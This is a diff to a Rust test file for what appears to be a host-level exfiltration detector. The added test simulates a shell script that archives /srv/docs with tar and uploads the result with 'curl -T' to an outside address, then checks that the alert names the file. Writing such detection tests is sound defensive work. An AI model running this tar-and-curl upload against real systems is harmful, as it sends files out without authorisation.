@@ -1,7 +1,7 @@
 //! Stories that go through another process of this host.
 
 use super::{OUTSIDE, Scene, alerts, chain, edges, read_documents};
-use crate::event::UnixSocket;
+use crate::event::{FdObject, UnixSocket};
 
 /// A relay that stood before the agent carries out what a script hands to it, by `hand_over`.
 fn relayed(hand_over: impl FnOnce(&mut Scene)) -> Scene {
@@ -19,6 +19,29 @@ fn relayed(hand_over: impl FnOnce(&mut Scene)) -> Scene {
     scene.send(11, 7, OUTSIDE, 12_050_000, 500_000);
     scene.stop();
     scene
+}
+
+/// `(…; tar …) >file`: the shell opened what tar prints into.
+#[test]
+fn a_program_prints_into_what_its_shell_opened() {
+    for (stdout, told) in [((1, 9_000), true), ((1, 9_001), false)] {
+        let mut scene = Scene::new();
+        scene.spawn(10, 100, "/bin/dash", &["sh", "/root/exfil.sh"]);
+        scene.write(100, 9_000, "/srv/build.o");
+        let file = FdObject::File { key: stdout, read: false, write: true };
+        let fds = [FdObject::None, file, FdObject::None];
+        scene.spawn_with(100, 101, "/usr/bin/tar", &["tar", "-c", "/srv/docs"], fds);
+        read_documents(&mut scene, 101);
+        scene.exit(101);
+        scene.spawn(100, 102, "/usr/bin/curl", &["curl", "-T", "/srv/build.o", "http://198.51.100.2:443/"]);
+        scene.read(102, 9_000, "/srv/build.o", 12_000_000);
+        scene.connect(102, 7, OUTSIDE);
+        scene.send(102, 7, OUTSIDE, 12_050_000, 500_000);
+        scene.stop();
+        let alerts = alerts(&scene);
+        let last = alerts.last().expect("an alert");
+        assert_eq!(last.files.iter().any(|file| file.path == "/srv/build.o".into()), told, "{stdout:?}");
+    }
 }
 
 /// Memory has no passage of its own in a scene's story: who reads it stands beside its owner, whatever comes first.
